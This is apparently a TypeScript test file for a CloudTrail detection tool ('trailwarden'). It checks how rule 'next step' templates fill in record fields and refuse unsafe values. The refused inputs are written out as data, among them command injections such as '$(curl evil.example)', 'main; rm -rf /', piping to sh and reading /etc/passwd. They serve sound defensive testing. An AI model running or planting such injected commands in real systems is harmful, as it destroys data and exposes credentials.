import { errorsOf, matchOf, ruleOf } from './given';

const ANY_EVENT = '{ selection: { eventName|exists: true }, condition: selection }';

/** The one next step of a rule, for a record. */
function advised(step: string, fields: Record<string, unknown> = {}): string | undefined {
  const match = matchOf(ruleOf(ANY_EVENT, { trailwarden: { next_steps: [step] } }), fields);
  return match?.rule.nextSteps(match.event, match.context)[0];
}

describe('a next step', () => {
  const NAMED = { requestParameters: { name: 'main', keyId: 'arn:aws:kms:eu-west-1:111122223333:key/1-2' } };

  test.each<[sentence: string, step: string, fields: Record<string, unknown>, expected: string]>([
    ['stands as written', 'Ask the owner.', {}, 'Ask the owner.'],
    [
      'names what is in the record',
      'Run start-logging --name {requestParameters.name}',
      NAMED,
      'Run start-logging --name main',
    ],
    [
      'keeps an ARN whole',
      '--key-id {requestParameters.keyId}',
      NAMED,
      '--key-id arn:aws:kms:eu-west-1:111122223333:key/1-2',
    ],
    ['takes the first name there is', '--name {a|requestParameters.name}', NAMED, '--name main'],
    ['keeps a place for what is missing', '--name {requestParameters.name}', {}, '--name NAME'],
    ['keeps a place under the first of several names', '--key {userIdentity.accessKeyId|a}', {}, '--key ACCESS_KEY_ID'],
    ['keeps a place for an element', '--name {a.names[0]}', {}, '--name NAMES'],
    [
      'names several things side by side',
      '--ids {a.id}',
      { a: [{ id: 'i-1' }, { id: 'i-2' }, { id: 'i-1' }] },
      '--ids i-1 i-2',
    ],
    ['names a number', '--port {a}', { a: 22 }, '--port 22'],
    ['names an address', '--cidr {a}', { a: '2001:db8::/32' }, '--cidr 2001:db8::/32'],
    ['names a version', 'pull {a}', { a: 'app:v1' }, 'pull app:v1'],
    ['keeps an optional part', 'Look[ in {awsRegion}] at it', { awsRegion: 'eu-west-1' }, 'Look in eu-west-1 at it'],
    ['drops an optional part with a missing field', 'Look[ in {awsRegion}] at it', {}, 'Look at it'],
    [
      'drops an optional part with a harmful value',
      'Look[ in {awsRegion}] at it',
      { awsRegion: '; rm -rf /' },
      'Look at it',
    ],
    ['leaves brackets without a field alone', '--ids [ID …] --tags []', {}, '--ids [ID …] --tags []'],
    ['leaves JSON alone', `--rule '{"Days":7,"On":[{}]}'`, {}, `--rule '{"Days":7,"On":[{}]}'`],
    ['leaves backslashes alone, but for brackets', 'C:\\x \\{a\\}', { a: 'y' }, 'C:\\x {a}'],
  ])('%s', (_, step, fields, expected) => {
    expect(advised(step, fields)).toBe(expected);
  });

  test.each([
    ['a command', '$(curl evil.example)'],
    ['a second command', 'main; rm -rf /'],
    ['a pipe', 'main|sh'],
    ['quotes', `main' || true`],
    ['backticks', '`id`'],
    ['a line break', 'main\nrm -rf /'],
    ['an option', '--profile=root'],
    ['a file to read', '@/etc/passwd'],
    ['a link', 'https://evil.example/login'],
    ['a file of the AWS CLI', 'file:///etc/passwd'],
    ['a mention', '<!channel>'],
    ['a picture', ':rotating_light:'],
    ['a picture in a made-up ARN', 'arn:aws:::rotating_light:'],
    ['a blank', 'main trail'],
    ['letters that look alike', 'mаin'],
    ['nothing', ''],
    ['more than a name', 'x'.repeat(201)],
    ['an object', { a: 'b' }],
    ['one harmful member', ['main', '$(id)']],
    ['too many members', [...Array(11).keys()].map((at) => `i-${at}`)],
  ])('never hands on %s', (_, value) => {
    expect(advised('--name {requestParameters.name}', { requestParameters: { name: value } })).toBe('--name NAME');
  });

  test('never hands on a secret', () => {
    expect(advised('Try {requestParameters.password}', { requestParameters: { password: 'hunter2' } })).toBe(
      'Try PASSWORD',
    );
  });

  test('is refused with an unknown context field', () => {
    expect(errorsOf(ANY_EVENT, { trailwarden: { next_steps: ['Ask {ctx.persn}'] } })).toEqual([
      'rules/x.yml: trailwarden.next_steps.0: unknown field "ctx.persn" (did you mean ctx.person?)',
    ]);
  });
});

test.each<[sentence: string, keys: Record<string, unknown>, why: string | undefined, guided: boolean]>([
  [
    'is the rule’s own',
    { trailwarden: { why: 'Trail {a} is gone.' }, description: 'Detects it' },
    'Trail main is gone.',
    true,
  ],
  ['is the description of a public rule', { description: 'Detects it\n' }, 'Detects it', false],
  [
    'is the description where guidance leaves it out',
    { trailwarden: { group: 'x' }, description: 'Detects it' },
    'Detects it',
    false,
  ],
  ['is nothing where there is nothing', {}, undefined, false],
])('why it matters %s', (_, keys, why, guided) => {
  const rule = ruleOf(ANY_EVENT, keys);
  const match = matchOf(rule, { a: 'main' });
  expect([match && rule.why(match.event, match.context), rule.guided]).toEqual([why, guided]);
});
